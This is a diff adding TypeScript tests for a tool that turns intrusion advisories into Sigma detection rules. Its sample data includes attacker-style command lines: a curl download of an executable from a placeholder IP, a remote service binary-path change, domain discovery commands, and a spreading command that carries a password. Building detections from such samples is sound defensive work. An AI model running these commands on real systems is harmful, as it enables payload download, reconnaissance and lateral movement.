@@ -1,0 +1,98 @@
+import { type CommandLine, findBehaviours, type GeneratedRule, generate } from '@tripline/advisory';
+import { matchRule, parseSigma, type SigmaRule } from '@tripline/sigma';
+import { markdownAdvisory } from '../support/documents.js';
+
+const typed = (...lines: readonly string[]): string =>
+  `# Grey Heron\n\nThe intruders ran:\n\n\`\`\`\n${lines.join('\n')}\n\`\`\`\n`;
+
+async function commandsOf(...lines: readonly string[]): Promise<readonly CommandLine[]> {
+  return findBehaviours(await markdownAdvisory(typed(...lines))).filter((each) => each.kind === 'command');
+}
+
+async function rulesOf(...lines: readonly string[]): Promise<readonly GeneratedRule[]> {
+  return generate(await markdownAdvisory(typed(...lines)), { targets: [] }).rules;
+}
+
+function matches({ yaml }: GeneratedRule, event: Readonly<Record<string, string>>): boolean {
+  const rule = parseSigma(yaml).documents.find((each): each is SigmaRule => each.kind === 'rule');
+  return rule !== undefined && matchRule(rule, event).matched;
+}
+
+describe('the programs of a command line', () => {
+  it.each([
+    ['a pipe', 'heron.exe /list | gull.exe /sort', ['heron', 'gull']],
+    ['a chain', 'heron.exe -a && gull.exe -b & tern.exe -c', ['heron', 'gull', 'tern']],
+    ['a shell with a chain', 'cmd.exe /c "heron.exe -a & gull.exe -b"', ['heron', 'gull']],
+    ['a separator without a blank', 'cd /tmp; ./heron --quiet; ./gull --loud', ['heron', 'gull']],
+    ['one that waits before', 'timeout /t 5 & heron.exe -a', ['heron']],
+    ['one that starts another', 'sudo -u root systemctl stop herond', ['systemctl']],
+    ['a script whose pipe is its own', 'powershell.exe Get-Heron -All | Out-Null', ['powershell']],
+    ['an address with an ampersand', 'curl -o h.exe https://192.0.2.7/h?a=1&b=2', ['curl']],
+  ])('are read apart: %s', async (_, line, names) => {
+    const commands = await commandsOf(line);
+    expect(commands.flatMap(({ programs }) => programs.map(({ name }) => name))).toEqual(names);
+  });
+
+  it('have their own arguments, each at its place', async () => {
+    const doc = await markdownAdvisory(typed('heron.exe --nest marsh | gull.exe --nest cliff'));
+    const command = findBehaviours(doc).find((each) => each.kind === 'command');
+    const shown = command?.programs.map(({ arguments: own }) =>
+      own.map(({ start, end }) => doc.text.slice(start, end)),
+    );
+    expect(shown).toEqual([
+      ['--nest', 'marsh'],
+      ['--nest', 'cliff'],
+    ]);
+  });
+
+  it('never share a selection', async () => {
+    const rules = await rulesOf('heronsync.exe --marsh-only && gullsync.exe --cliff-only');
+    const about = (name: string) => rules.filter(({ yaml }) => yaml.includes(name));
+    expect(about('marsh-only').length).toBeGreaterThan(0);
+    expect(about('cliff-only').length).toBeGreaterThan(0);
+    expect(about('marsh-only').filter(({ yaml }) => yaml.includes('cliff-only'))).toEqual([]);
+  });
+});
+
+describe('a rule on discovery', () => {
+  it('finds the question whatever path the program was started by', async () => {
+    const [rule] = await rulesOf('net group "Heron Admins" /domain');
+    const started = { Image: 'C:\\Windows\\System32\\net.exe' };
+    const asked = { ...started, CommandLine: '"C:\\Windows\\system32\\net.exe" group "Heron Admins" /domain' };
+    expect(matches(rule as GeneratedRule, asked)).toBe(true);
+    expect(matches(rule as GeneratedRule, { ...started, CommandLine: 'net use' })).toBe(false);
+    const handedOn = { Image: 'C:\\Windows\\System32\\net1.exe', CommandLine: 'net1 group "Heron Admins" /domain' };
+    expect(matches(rule as GeneratedRule, handedOn)).toBe(true);
+  });
+});
+
+describe('what is one victim’s own', () => {
+  it.each([
+    ['a host by itself', 'sc.exe \\\\MARSH-01 config HeronSvc binPath= C:\\ProgramData\\heron.exe', 'MARSH'],
+    ['the value of an option for a host', 'heronmove.exe --spread /node:MARSH-01 /quietly', 'MARSH'],
+    ['the word after such an option', 'heronmove.exe --spread -ComputerName MARSH-01 /quietly', 'MARSH'],
+    ['a password', 'heronmove.exe --spread /user:egret /password:Reed2020 /quietly', 'Reed'],
+  ])('is in no rule: %s', async (_, line, own) => {
+    const rules = await rulesOf(line);
+    expect(rules.length).toBeGreaterThan(0);
+    expect(rules.filter(({ yaml }) => yaml.includes(own))).toEqual([]);
+  });
+});
+
+it('a registry key with blanks in it is one value, without its hive', async () => {
+  const rules = await rulesOf('reg query "HKEY_CURRENT_USER\\Software\\Grey Heron\\Nest Box" /v Eggs');
+  expect(rules.some(({ yaml }) => yaml.includes('\\Software\\Grey Heron\\Nest Box'))).toBe(true);
+});
+
+it('titles say what was done and count nothing', async () => {
+  const rules = await rulesOf(
+    'heronsync.exe --marsh-only',
+    'net user /domain',
+    'nltest /domain_trusts',
+    'ipconfig /all',
+    'tasklist /v',
+    'quser /server:a',
+  );
+  expect(rules.length).toBeGreaterThan(1);
+  expect(rules.filter(({ title }) => /Command Line|\band \d+ more/i.test(title))).toEqual([]);
+});
